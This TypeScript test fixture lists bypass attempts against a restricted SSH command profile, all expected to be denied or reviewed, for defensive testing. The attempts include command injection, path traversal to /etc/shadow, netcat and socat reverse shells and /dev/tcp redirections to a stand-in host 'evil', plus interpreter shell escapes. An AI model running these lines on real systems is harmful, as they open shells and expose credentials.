/**
 * Attempts to get past a restricted command profile (R-6.3c). The same corpus is replayed
 * in-process (parser + engine) and, later, through real OpenSSH sessions against a real device,
 * where none of these may run a denied command.
 *
 * `line` is exactly what reaches the gateway's line reader, control characters included.
 */
import type { CommandProfile } from '../../policy/command-policy.js';

/** What a CT vendor's diagnostics profile typically looks like. */
export const BYPASS_PROFILE: CommandProfile = {
  name: 'ct-diag',
  mode: 'restricted',
  rules: [
    { program: 'ls', action: 'allow' },
    { program: 'cat', args: ['/var/log/*'], action: 'allow' },
    { program: 'systemctl', args: ['status', '*'], action: 'allow' },
    { program: 'df', action: 'allow' },
    { program: 'uptime', action: 'allow' },
    { program: 'journalctl', args: ['-u', '*'], action: 'allow' },
    { program: 'reboot', args: [], action: 'review' },
  ],
};

export interface BypassCase {
  name: string;
  line: string;
  /** `review` only where the profile itself says review. */
  expect: 'deny' | 'review';
}

const ESC = '\u001b';

export const BYPASS_CORPUS: readonly BypassCase[] = [
  // Command separators
  { name: 'semicolon', line: 'ls; reboot', expect: 'deny' },
  { name: 'semicolon without spaces', line: 'ls;reboot', expect: 'deny' },
  { name: 'background then command', line: 'ls & reboot', expect: 'deny' },
  { name: 'and', line: 'ls && reboot', expect: 'deny' },
  { name: 'or', line: 'ls || reboot', expect: 'deny' },
  { name: 'pipe into a shell', line: 'ls | sh', expect: 'deny' },
  { name: 'pipe with stderr into a shell', line: 'ls |& sh', expect: 'deny' },
  { name: 'newline inside the line', line: 'ls\nreboot', expect: 'deny' },
  { name: 'carriage return inside the line', line: 'ls\rreboot', expect: 'deny' },
  { name: 'form feed as a separator', line: 'ls\freboot', expect: 'deny' },
  { name: 'vertical tab as a separator', line: 'ls\vreboot', expect: 'deny' },
  { name: 'C1 next-line character', line: 'ls\u0085reboot', expect: 'deny' },
  { name: 'Unicode line separator', line: 'ls\u2028reboot', expect: 'deny' },
  { name: 'empty statement', line: 'ls ; ; reboot', expect: 'deny' },
  { name: 'allowed commands chained without allow_constructs', line: 'df ; uptime', expect: 'deny' },
  { name: 'allowed commands piped without allow_constructs', line: 'uptime | uptime', expect: 'deny' },

  // Substitutions
  { name: 'command substitution in an argument', line: 'ls $(reboot)', expect: 'deny' },
  { name: 'backquotes in an argument', line: 'ls `reboot`', expect: 'deny' },
  { name: 'command substitution inside double quotes', line: 'ls "$(reboot)"', expect: 'deny' },
  { name: 'process substitution (input)', line: 'cat <(reboot)', expect: 'deny' },
  { name: 'process substitution (output)', line: 'ls >(reboot)', expect: 'deny' },
  { name: 'substitution as the program', line: '$(echo reboot)', expect: 'deny' },
  { name: 'backquotes building the program name', line: '`echo re`boot', expect: 'deny' },
  { name: 'arithmetic expansion', line: 'ls $((1+1))', expect: 'deny' },
  { name: 'substitution hidden in a default value', line: 'ls ${x:-$(reboot)}', expect: 'deny' },
  { name: 'substitution in [[ ]]', line: '[[ $(reboot) ]]', expect: 'deny' },
  { name: 'printf-built program name', line: "ls -la $(printf '\\x72eboot')", expect: 'deny' },
  { name: 'base64 through eval', line: 'eval "$(echo cmVib290 | base64 -d)"', expect: 'deny' },

  // Quoting and escaping
  { name: 'escaped letter in a denied program', line: 's\\h', expect: 'deny' },
  { name: 'quoted letters in a denied program', line: "'s'h -c reboot", expect: 'deny' },
  { name: 'ANSI-C quoted program', line: "$'\\x6c's", expect: 'deny' },
  { name: 'ANSI-C quoted reboot', line: "$'\\x72eboot'", expect: 'deny' },
  { name: 'empty quotes inside a name', line: "ec''ho hi", expect: 'deny' },
  { name: 'positional parameter inside a name', line: 'e$@cho hi', expect: 'deny' },
  { name: '${IFS} as a space', line: 'cat${IFS}/etc/shadow', expect: 'deny' },
  { name: '$IFS$9 as a space', line: 'cat$IFS$9/etc/shadow', expect: 'deny' },
  { name: 'brace expansion as a command', line: '{cat,/etc/shadow}', expect: 'deny' },
  { name: 'brace expansion in arguments', line: 'ls {-la,/etc}', expect: 'deny' },
  { name: 'glob spelling a path to reboot', line: '/???/b??/r?boot', expect: 'deny' },
  { name: 'glob in an allowed argument', line: 'cat /var/log/*', expect: 'deny' },
  { name: 'variables assembling a program', line: 'a=re; b=boot; $a$b', expect: 'deny' },
  { name: 'the shell itself through $0', line: '$0', expect: 'deny' },
  { name: 'lone dollar', line: 'ls $', expect: 'deny' },
  { name: 'tilde expansion', line: 'ls ~root', expect: 'deny' },
  { name: 'zsh equals expansion', line: 'ls =reboot', expect: 'deny' },
  { name: 'extended glob', line: 'ls @(x|y)', expect: 'deny' },
  { name: 'unterminated double quote', line: 'ls "', expect: 'deny' },
  { name: 'unterminated single quote', line: "ls 'a", expect: 'deny' },

  // Paths and arguments
  { name: 'absolute path of a reviewed program', line: '/sbin/reboot', expect: 'deny' },
  { name: 'relative path program', line: './reboot', expect: 'deny' },
  { name: 'cat outside /var/log', line: 'cat /etc/shadow', expect: 'deny' },
  { name: 'dot-dot out of /var/log', line: 'cat /var/log/../../etc/shadow', expect: 'deny' },
  { name: 'dot then dot-dot', line: 'cat /var/log/./../../etc/shadow', expect: 'deny' },
  { name: 'double slash then dot-dot', line: 'cat /var/log//../etc/shadow', expect: 'deny' },
  { name: 'the directory above itself', line: 'cat /var/log/..', expect: 'deny' },
  { name: 'a second argument', line: 'cat /var/log/syslog /etc/shadow', expect: 'deny' },
  { name: 'a sub-directory (globs do not cross /)', line: 'cat /var/log/nginx/../../../etc/shadow', expect: 'deny' },
  { name: 'newline inside a quoted argument', line: "cat '/var/log/x\n/etc/shadow'", expect: 'deny' },
  { name: 'option where a unit name goes', line: 'systemctl status --help', expect: 'deny' },
  { name: 'remote host option', line: 'systemctl status -H evil', expect: 'deny' },
  { name: 'remote host long option', line: 'systemctl status --host=evil', expect: 'deny' },
  { name: 'systemctl edit opens an editor', line: 'systemctl edit nginx', expect: 'deny' },
  { name: 'journalctl reading another file', line: 'journalctl -u --file=/etc/shadow', expect: 'deny' },
  { name: 'reboot with an option the rule does not list', line: 'reboot -f', expect: 'deny' },

  // Backslash-newline
  { name: 'continuation inside a word', line: 'reb\\\noot', expect: 'deny' },
  { name: 'trailing continuation', line: 'ls \\\n', expect: 'deny' },
  { name: 'trailing backslash', line: 'ls \\', expect: 'deny' },

  // Here-documents and here-strings
  { name: 'here-document', line: 'cat <<EOF\n/etc/shadow\nEOF', expect: 'deny' },
  { name: 'unterminated here-document', line: 'cat <<EOF\nx', expect: 'deny' },
  { name: 'here-string with a substitution', line: 'cat <<<$(reboot)', expect: 'deny' },
  { name: 'here-string into a shell', line: 'sh <<<reboot', expect: 'deny' },

  // Redirections
  { name: 'overwrite a file', line: 'ls > /etc/x', expect: 'deny' },
  { name: 'clobber override', line: 'ls >| /etc/x', expect: 'deny' },
  { name: 'stdout and stderr to a file', line: 'ls &> /etc/x', expect: 'deny' },
  { name: 'append to a startup file', line: 'ls >> /root/.bashrc', expect: 'deny' },
  { name: 'stderr to /dev/null', line: 'ls 2>/dev/null', expect: 'deny' },
  { name: 'read a file as input', line: 'df < /etc/shadow', expect: 'deny' },
  { name: 'bash network redirection', line: 'uptime >/dev/tcp/evil/80', expect: 'deny' },
  { name: 'open a socket on a descriptor', line: 'exec 3<>/dev/tcp/evil/80', expect: 'deny' },

  // Environment, aliases and functions
  { name: 'variable before an allowed program', line: 'FOO=1 ls', expect: 'deny' },
  { name: 'BASH_ENV', line: 'BASH_ENV=/tmp/x ls', expect: 'deny' },
  { name: 'PATH', line: 'PATH=/tmp:$PATH ls', expect: 'deny' },
  { name: 'LD_PRELOAD', line: 'LD_PRELOAD=/tmp/x.so ls', expect: 'deny' },
  { name: 'IFS', line: 'IFS=/ ls', expect: 'deny' },
  { name: 'env runs a program', line: 'env reboot', expect: 'deny' },
  { name: 'env with a clean environment', line: 'env -i sh', expect: 'deny' },
  { name: 'alias an allowed name', line: 'alias ls=reboot', expect: 'deny' },
  { name: 'function shadowing a name', line: 'f() { reboot; }; f', expect: 'deny' },
  { name: 'function keyword', line: 'function ls { reboot; }', expect: 'deny' },
  { name: 'export PATH', line: 'export PATH=/tmp', expect: 'deny' },
  { name: 'eval', line: 'eval reboot', expect: 'deny' },
  { name: 'exec a shell', line: 'exec sh', expect: 'deny' },
  { name: 'source a file', line: 'source /tmp/x', expect: 'deny' },
  { name: 'dot a file', line: '. /tmp/x', expect: 'deny' },
  { name: 'command built-in', line: 'command reboot', expect: 'deny' },
  { name: 'builtin eval', line: 'builtin eval reboot', expect: 'deny' },
  { name: 'trap', line: 'trap reboot EXIT', expect: 'deny' },

  // Shell escapes from programs
  { name: 'less !sh', line: 'less /var/log/syslog', expect: 'deny' },
  { name: 'more', line: 'more /var/log/syslog', expect: 'deny' },
  { name: 'man uses a pager', line: 'man ls', expect: 'deny' },
  { name: 'vi :!sh', line: 'vi /etc/passwd', expect: 'deny' },
  { name: 'vim -c', line: "vim -c ':!sh'", expect: 'deny' },
  { name: 'find -exec', line: 'find / -exec sh \\;', expect: 'deny' },
  { name: 'awk system()', line: 'awk \'BEGIN{system("sh")}\'', expect: 'deny' },
  { name: 'git pager and hooks', line: 'git log', expect: 'deny' },
  { name: 'tar --to-command', line: 'tar xf x.tar --to-command=sh', expect: 'deny' },
  { name: 'rsync -e', line: 'rsync -e sh x y', expect: 'deny' },
  { name: 'gdb', line: "gdb -ex '!sh'", expect: 'deny' },

  // Interpreters and shells
  { name: 'python', line: "python3 -c 'import os; os.system(\"sh\")'", expect: 'deny' },
  { name: 'perl', line: 'perl -e \'exec "/bin/sh"\'', expect: 'deny' },
  { name: 'ruby', line: "ruby -e 'exec \"sh\"'", expect: 'deny' },
  { name: 'node', line: "node -e 'require(\"child_process\").spawn(\"sh\")'", expect: 'deny' },
  { name: 'lua', line: "lua -e 'os.execute(\"sh\")'", expect: 'deny' },
  { name: 'php', line: "php -r 'system(\"sh\");'", expect: 'deny' },
  { name: 'busybox sh', line: 'busybox sh', expect: 'deny' },
  { name: 'bash', line: 'bash -i', expect: 'deny' },
  { name: 'sh -c', line: 'sh -c reboot', expect: 'deny' },
  { name: 'absolute path to a shell', line: '/bin/sh', expect: 'deny' },
  { name: 'zsh', line: 'zsh', expect: 'deny' },
  { name: 'sudo', line: 'sudo reboot', expect: 'deny' },
  { name: 'su', line: 'su -', expect: 'deny' },
  { name: 'nohup', line: 'nohup reboot', expect: 'deny' },
  { name: 'timeout', line: 'timeout 1 reboot', expect: 'deny' },
  { name: 'xargs', line: 'xargs reboot', expect: 'deny' },
  { name: 'script', line: 'script -c sh', expect: 'deny' },
  { name: 'ssh elsewhere', line: 'ssh evil', expect: 'deny' },
  { name: 'netcat shell', line: 'nc -e sh evil 4444', expect: 'deny' },
  { name: 'socat shell', line: 'socat exec:sh tcp:evil:1', expect: 'deny' },
  { name: 'crontab', line: 'crontab -e', expect: 'deny' },
  { name: 'systemd-run', line: 'systemd-run sh', expect: 'deny' },

  // Terminal sequences in the line
  { name: 'bracketed-paste markers around a command', line: `${ESC}[200~reboot${ESC}[201~`, expect: 'deny' },
  { name: 'erase-line then carriage return', line: `ls${ESC}[2K\rreboot`, expect: 'deny' },
  { name: 'window-title sequence', line: `${ESC}]0;title\u0007ls`, expect: 'deny' },
  { name: 'hidden text attribute', line: `ls ${ESC}[8mreboot`, expect: 'deny' },
  { name: 'NUL byte', line: 'ls\u0000reboot', expect: 'deny' },
  { name: 'DEL characters', line: 'ls\u007f\u007freboot', expect: 'deny' },
  { name: 'backspace characters', line: 'ls\b\breboot', expect: 'deny' },
  { name: 'Ctrl-C byte', line: '\u0003reboot', expect: 'deny' },

  // Unicode look-alikes and invisible characters
  { name: 'Cyrillic es in cat', line: '\u0441at /etc/shadow', expect: 'deny' },
  { name: 'Cyrillic ie in reboot', line: 'r\u0435boot', expect: 'deny' },
  { name: 'fullwidth ls', line: '\uff4c\uff53', expect: 'deny' },
  { name: 'zero-width joiner inside a name', line: 'l\u200ds', expect: 'deny' },
  { name: 'zero-width space after a name', line: 'reboot\u200b', expect: 'deny' },
  { name: 'right-to-left override', line: 'ls \u202e/etc/shadow', expect: 'deny' },
  { name: 'byte-order mark before a name', line: '\ufeffreboot', expect: 'deny' },
  { name: 'no-break space between words', line: 'ls\u00a0-la', expect: 'deny' },

  // Size
  { name: 'one very long argument', line: `ls ${'a'.repeat(5000)}`, expect: 'deny' },
  { name: 'very many arguments', line: `ls ${'a '.repeat(3000)}`, expect: 'deny' },

  // Compound commands and the rest of the grammar
  { name: 'negation', line: '! reboot', expect: 'deny' },
  { name: 'time keyword', line: 'time reboot', expect: 'deny' },
  { name: 'coproc', line: 'coproc reboot', expect: 'deny' },
  { name: 'subshell', line: '(reboot)', expect: 'deny' },
  { name: 'group', line: '{ reboot; }', expect: 'deny' },
  { name: 'if', line: 'if true; then reboot; fi', expect: 'deny' },
  { name: 'for', line: 'for i in 1; do reboot; done', expect: 'deny' },
  { name: 'while', line: 'while true; do reboot; done', expect: 'deny' },
  { name: 'case', line: 'case x in x) reboot;; esac', expect: 'deny' },
  { name: 'arithmetic command', line: '((x=1))', expect: 'deny' },
  { name: 'background', line: 'reboot &', expect: 'deny' },
  { name: 'comment hiding the rest', line: 'ls # ; reboot', expect: 'deny' },
  { name: 'history: repeat last', line: '!!', expect: 'deny' },
  { name: 'history: quick substitution', line: '^ls^reboot', expect: 'deny' },
  { name: 'dangling pipe', line: 'ls |', expect: 'deny' },
  { name: 'dangling and', line: 'ls &&', expect: 'deny' },

  // What the profile says needs review stays review, however it is spelt
  { name: 'reboot needs review', line: 'reboot', expect: 'review' },
  { name: 'quoted reboot needs review', line: "'reboot'", expect: 'review' },
  { name: 'escaped reboot needs review', line: 're\\boot', expect: 'review' },
  { name: 'split-quoted reboot needs review', line: 're""boot', expect: 'review' },
];

/** Lines the same profile allows: the corpus proves nothing if everything is denied. */
export const ALLOWED_CONTROLS: readonly string[] = [
  'ls',
  'ls -la /var/log',
  'l\\s -la',
  "'ls'",
  'cat /var/log/syslog',
  "cat '/var/log/syslog'",
  'systemctl status nginx',
  "systemctl status 'nginx;reboot'",
  'df -h',
  'uptime',
  'journalctl -u nginx',
];
